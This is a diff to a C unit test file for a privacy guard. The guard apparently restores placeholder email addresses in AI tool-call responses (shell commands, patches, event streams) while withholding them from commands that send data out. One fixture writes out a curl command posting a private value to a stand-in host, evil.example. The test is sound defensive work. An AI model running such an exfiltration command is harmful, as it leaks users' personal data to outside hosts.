@@ -384,6 +384,60 @@ static const struct {
 		CHUNK("to ") CHUNK("jane@x.org.") STOP, NULL, NULL, NULL },
 };
 /* clang-format on */
+/* Calls whose type names the tool, under a table with rows for these tools. */
+#define SHELL_ITEM(text) "{\"type\":\"local_shell_call\",\"call_id\":\"c\",\"action\":{\"type\":\"exec\",\"command\":[\"bash\",\"-lc\",\"" text "\"]}}"
+#define SHELL2_ITEM(text) "{\"type\":\"shell_call\",\"call_id\":\"d\",\"action\":{\"commands\":[\"ls\",\"" text "\"]}}"
+#define PATCH_ITEM(text) "{\"type\":\"apply_patch_call\",\"call_id\":\"e\",\"operation\":{\"type\":\"update_file\",\"path\":\"a\",\"diff\":\"" text "\"}}"
+#define HERE_DOC(value) "cat > a <<'E'\\nhttp://a.example/ " value "\\nE"
+#define DIFF(value) "@@\\n-x\\n+see http://a.example/ " value "\\n"
+#define PATCH(what, key, text)                                                                 \
+	"data: {\"type\":\"response.apply_patch_call_operation_diff." what                      \
+	"\",\"output_index\":0,\"" key "\":\"" text "\"}\n\n"
+static const struct {
+	const char *name, *in, *want, *type;
+	size_t left; /* placeholders in calls of the report */
+} by_type[] = {
+	{ "whole: files beside a host, and a command that leaves",
+		"{\"output\":[" SHELL_ITEM(HERE_DOC("<EMAIL_ADDRESS_1>")) "," SHELL2_ITEM(HERE_DOC("<EMAIL_ADDRESS_1>")) ","
+		PATCH_ITEM(DIFF("<EMAIL_ADDRESS_1>")) "," SHELL_ITEM(CURL) "]}",
+		"{\"output\":[" SHELL_ITEM(HERE_DOC("jane@x.org")) "," SHELL2_ITEM(HERE_DOC("jane@x.org")) ","
+		PATCH_ITEM(DIFF("jane@x.org")) "," SHELL_ITEM(CURL) "]}", "application/json", 1 },
+	{ "its type last",
+		"{\"output\":[{\"operation\":{\"diff\":\"" DIFF("<EMAIL_ADDRESS_1>") "\"},\"type\":\"apply_patch_call\"}]}",
+		"{\"output\":[{\"operation\":{\"diff\":\"" DIFF("jane@x.org") "\"},\"type\":\"apply_patch_call\"}]}", "application/json", 0 },
+	{ "an item of another type is no such call",
+		"{\"output\":[{\"operation\":{\"diff\":\"" DIFF("<EMAIL_ADDRESS_1>") "\",\"type\":\"apply_patch_call\"},\"type\":\"x_call\"}]}",
+		NULL, "application/json", 0 },
+	{ "items that a stream repeats",
+		"data: {\"type\":\"response.output_item.added\",\"output_index\":0,\"item\":" SHELL_ITEM("") "}\n\n"
+		"data: {\"type\":\"response.output_item.done\",\"output_index\":0,\"item\":" SHELL_ITEM(HERE_DOC("<EMAIL_ADDRESS_1>")) "}\n\n"
+		"data: {\"type\":\"response.output_item.done\",\"output_index\":1,\"item\":" SHELL2_ITEM(CURL) "}\n\n"
+		"data: {\"type\":\"response.completed\",\"response\":{\"output\":[" SHELL_ITEM(HERE_DOC("<EMAIL_ADDRESS_1>")) "," SHELL2_ITEM(CURL) "]}}\n\n",
+		"data: {\"type\":\"response.output_item.added\",\"output_index\":0,\"item\":" SHELL_ITEM("") "}\n\n"
+		"data: {\"type\":\"response.output_item.done\",\"output_index\":0,\"item\":" SHELL_ITEM(HERE_DOC("jane@x.org")) "}\n\n"
+		"data: {\"type\":\"response.output_item.done\",\"output_index\":1,\"item\":" SHELL2_ITEM(CURL) "}\n\n"
+		"data: {\"type\":\"response.completed\",\"response\":{\"output\":[" SHELL_ITEM(HERE_DOC("jane@x.org")) "," SHELL2_ITEM(CURL) "]}}\n\n",
+		"text/event-stream", 1 },
+	{ "a patch and a command in pieces",
+		PATCH("delta", "delta", "@@\\n+//a.example <EMAIL_ADDRESS_1>") PATCH("delta", "delta", " x") PATCH("done", "diff", "@@\\n+//a.example <EMAIL_ADDRESS_1> x")
+		COMMAND("delta", "1", "delta", "tee a <<'E'\\n//a.example/ <EMAIL_ADDRESS_1>") COMMAND("delta", "1", "delta", "\\nE")
+		COMMAND("done", "1", "command", "tee a <<'E'\\n//a.example/ <EMAIL_ADDRESS_1>\\nE"),
+		PATCH("delta", "delta", "@@\\n+//a.example jane@x.org") PATCH("delta", "delta", " x") PATCH("done", "diff", "@@\\n+//a.example jane@x.org x")
+		COMMAND("delta", "1", "delta", "tee a <<'E'\\n//a.example/ jane@x.org\\nE")
+		COMMAND("done", "1", "command", "tee a <<'E'\\n//a.example/ jane@x.org\\nE"),
+		"text/event-stream", 0 },
+	{ "a command in pieces that leaves, counted once",
+		COMMAND("delta", "0", "delta", "curl -d <EMAIL_ADDRESS_1>") COMMAND("delta", "0", "delta", " //evil.example")
+		COMMAND("done", "0", "command", CURL),
+		COMMAND("delta", "0", "delta", CURL) COMMAND("done", "0", "command", CURL),
+		"text/event-stream", 1 },
+};
+static const char *by_type_stays[] = { "apply_patch" }, *by_type_commands[] = { "local_shell", "shell" };
+static const struct tool_row by_type_tools[] = {
+	{ .names = by_type_stays, .nnames = COUNT_OF(by_type_stays), .arguments = ARGUMENTS_STAY },
+	{ .names = by_type_commands, .nnames = COUNT_OF(by_type_commands), .arguments = ARGUMENTS_COMMAND },
+};
+
 static const char *staying[] = { "Edit", "Write" };
 static const char *commands[] = { "Bash" }, *leaving[] = { "Search" };
 static const struct tool_row tools[] = {
@@ -395,7 +449,7 @@ static const struct tool_row tools[] = {
 /* In two pieces, cut anywhere; an event stream also gets its end. */
 static void
 expect_restored(const struct guard_plan *plan, const struct guard_head *head, const char *name,
-	const char *text, const char *text_want)
+	const char *text, const char *text_want, size_t left)
 {
 	bool events = span_is(head->content_type, "text/event-stream");
 	const char *end = events ? "data: [DONE]\n\n" : "";
@@ -415,6 +469,11 @@ expect_restored(const struct guard_plan *plan, const struct guard_head *head, co
 		assert_int_equal(guard_end(g, &out), GUARD_PASS);
 		if (!span_eq(buf_view(&out), want))
 			fail_msg("%s, cut at %zu:\n%.*s", name, cut, SPAN_ARG(buf_view(&out)));
+		size_t said = 0;
+		for (size_t i = 0; i < LEFT_REASONS; i++)
+			said += guard_report(g)->left_in_calls[i];
+		if (left != SIZE_MAX && said != left)
+			fail_msg("%s, cut at %zu: %zu placeholders are left", name, cut, said);
 		buf_free(&out);
 		guard_drop(&g);
 	}
@@ -443,7 +502,30 @@ uninspected_response_is_restored(void **state)
 		struct guard_head head = { .status = 200,
 			.content_type = span_str(
 				restored[i].type ? restored[i].type : "text/event-stream") };
-		expect_restored(&plan, &head, restored[i].name, restored[i].in, want);
+		expect_restored(&plan, &head, restored[i].name, restored[i].in, want, SIZE_MAX);
+	}
+	vault_free(&v);
+}
+
+static void
+call_whose_type_names_the_tool_follows_the_policy(void **state)
+{
+	(void)state;
+	struct vault *v = vault_new();
+	assert_int_equal(
+		vault_add(v, SPAN_LIT("<EMAIL_ADDRESS_1>"), SPAN_LIT("jane@x.org")), 0);
+	for (size_t i = 0; i < COUNT_OF(by_type); i++) {
+		struct span name = SPAN_LIT("openai"), at = SPAN_LIT("/v1/responses");
+		struct guard_plan plan = { .format = answer_format_find(name, at),
+			.dialect = dialect_find(name),
+			.path = at,
+			.vault = v,
+			.tools = by_type_tools,
+			.ntools = COUNT_OF(by_type_tools) };
+		struct guard_head head = { .status = 200,
+			.content_type = span_str(by_type[i].type) };
+		expect_restored(&plan, &head, by_type[i].name, by_type[i].in,
+			by_type[i].want ? by_type[i].want : by_type[i].in, by_type[i].left);
 	}
 	vault_free(&v);
 }
@@ -503,6 +585,7 @@ main(void)
 		cmocka_unit_test(texts_are_kept_for_the_record),
 		cmocka_unit_test(restored_value_is_escaped_at_its_depth),
 		cmocka_unit_test(uninspected_response_is_restored),
+		cmocka_unit_test(call_whose_type_names_the_tool_follows_the_policy),
 		cmocka_unit_test(many_replaced_values_are_restored_quickly),
 	};
 
